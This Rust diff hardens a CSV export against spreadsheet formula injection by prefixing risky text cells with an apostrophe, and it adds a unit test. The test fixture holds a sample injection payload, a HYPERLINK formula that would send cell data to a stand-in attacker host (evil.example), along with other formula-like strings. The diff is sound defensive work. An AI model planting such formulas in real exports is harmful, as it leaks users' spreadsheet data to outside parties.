@@ -140,7 +140,7 @@ impl<W: Write> Sink for CsvSink<W> {
 
     fn row(&mut self, cells: &[Cell]) -> Result<()> {
         let text = |c: &Cell| match c {
-            Cell::Text(s) => s.clone(),
+            Cell::Text(s) => defused(s),
             Cell::Number(n) => format!("{n}"),
             Cell::Money(n) => format!("{n:.2}"),
             Cell::Percent(n) => format!("{:.1}%", n * 100.0),
@@ -149,6 +149,18 @@ impl<W: Write> Sink for CsvSink<W> {
             Cell::Empty => String::new(),
         };
         self.out.write_record(cells.iter().map(text)).map_err(failed)
+    }
+}
+
+/// Text as a spreadsheet shows it, never as a formula: a note a device wrote that starts with
+/// `=`, `+`, `-`, `@` or a tab would be run by Excel or WPS when the manager opens the CSV (a
+/// link that sends the sheet away, say), so it gets a leading `'` (OWASP's advice). XLSX cells
+/// are typed as text and need nothing.
+fn defused(s: &str) -> String {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_string()
     }
 }
 
@@ -251,4 +263,32 @@ impl Service {
 /// The file name of an export (`visits-2026-11-01-2026-11-30.xlsx`).
 pub fn file_name(what: What, first: NaiveDate, last: NaiveDate, format: FileFormat) -> String {
     format!("{}-{first}-{last}.{}", what.as_str(), format.extension())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn csv_text_from_devices_is_never_a_formula() {
+        let mut out = Vec::new();
+        let mut sink = CsvSink::new(&mut out).unwrap();
+        let cells = [
+            Cell::Text("=HYPERLINK(\"http://evil.example/?\"&A1,\"看\")".into()),
+            Cell::Text("@SUM(1+1)".into()),
+            Cell::Text("-2+3".into()),
+            Cell::Text("拜访上海华为".into()),
+            Cell::Number(-5.0),
+        ];
+        sink.row(&cells).unwrap();
+        sink.finish().unwrap();
+        let text = String::from_utf8(out).unwrap();
+        let mut read =
+            csv::ReaderBuilder::new().has_headers(false).from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let row: Vec<String> = read.records().next().unwrap().unwrap().iter().map(String::from).collect();
+        assert_eq!(
+            row,
+            ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"看\")", "'@SUM(1+1)", "'-2+3", "拜访上海华为", "-5"]
+        );
+    }
 }
